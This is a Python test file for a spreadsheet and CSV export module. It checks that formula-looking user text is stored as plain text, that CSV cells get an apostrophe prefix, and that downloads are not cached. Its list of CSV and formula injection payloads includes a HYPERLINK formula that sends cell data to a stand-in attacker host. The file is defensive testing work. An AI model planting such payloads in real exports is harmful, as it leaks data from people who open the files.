"""The one spreadsheet writer keeps user text as text: no formula cell can come from a name or a note."""

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from casework import spreadsheets

ATTACKS = ['=HYPERLINK("http://evil.example/"&A1,"查看详情")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def reopened(workbook):
    return load_workbook(io.BytesIO(spreadsheets.workbook_bytes(workbook))).active


def test_xlsx_text_that_looks_like_a_formula_is_stored_as_text():
    workbook, sheet = spreadsheets.new_workbook("导出")
    spreadsheets.append(sheet, ["名称", "金额"])
    for text in ATTACKS:
        spreadsheets.append(sheet, [text, Decimal("12.50")])
    spreadsheets.put(sheet, 20, 3, "=1+2")
    sheet = reopened(workbook)
    assert [c.value for c in sheet[1]][:2] == ["名称", "金额"]
    rows = list(sheet.iter_rows(min_row=2, max_row=1 + len(ATTACKS)))
    assert [r[0].value for r in rows] == [t.replace("\r", "\n") for t in ATTACKS]  # XML reads CR as LF
    assert all(r[0].data_type == "s" for r in rows)
    assert all(r[1].data_type == "n" and r[1].value == 12.5 for r in rows)
    assert sheet.cell(20, 3).data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_xlsx_keeps_dates_and_drops_characters_a_sheet_cannot_hold():
    workbook, sheet = spreadsheets.new_workbook()
    spreadsheets.append(sheet, [date(2026, 3, 1), "甲\x00乙\x07"])
    sheet = reopened(workbook)
    assert sheet.cell(1, 1).is_date
    assert sheet.cell(1, 2).value == "甲乙"


def test_csv_neutralises_formula_starts_and_keeps_other_text():
    data = spreadsheets.csv_bytes(["名称"], [[t] for t in ATTACKS] + [["张三"], [None], [-5]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    values = [r[0] for r in rows[1:]]
    assert values[: len(ATTACKS)] == ["'" + t for t in ATTACKS]
    assert values[len(ATTACKS) :] == ["张三", "", "-5"]  # a number stays a number


def test_download_is_never_cached():
    response = spreadsheets.csv_download(["a"], [["b"]], "名单.csv")
    assert response["Cache-Control"] == "no-store"
    assert "UTF-8''%E5%90%8D%E5%8D%95.csv" in response["Content-Disposition"]
